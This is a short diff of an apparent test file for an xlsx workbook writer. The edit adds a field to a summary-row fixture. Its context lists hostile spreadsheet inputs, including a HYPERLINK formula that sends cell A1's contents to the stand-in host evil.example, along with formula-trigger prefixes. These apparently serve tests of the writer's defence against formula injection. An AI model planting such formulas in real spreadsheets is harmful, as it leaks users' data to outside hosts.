@@ -24,7 +24,7 @@ from wbagree.formats.xlsx import sheet_writer
 from wbagree.formats.xlsx.workbook import About, write_workbook
 
 PARTIES = {"AL": "Albania", "XK": "Kosovo", "HR": "Croatia", "YU-SFRY": "SFR Yugoslavia"}
-ROW = SummaryRow("AL-XK", 2, 1, 1, 0, 0, 1, 0, "2009", "2012", 0, 0, "mla 2")
+ROW = SummaryRow("AL-XK", 2, 1, 1, 0, 0, 1, 0, 0, "2009", "2012", 0, 0, "mla 2")
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1;"click")', "+1", "-2+3", "@SUM(A1)", "'=1", "''=1", "'s-Gravenhage",
     "{=1+1}", "http://example.org/a", "internal:Pairs!A1", "0012", "1e5", "2012-03-10", "TRUE", "#REF!",
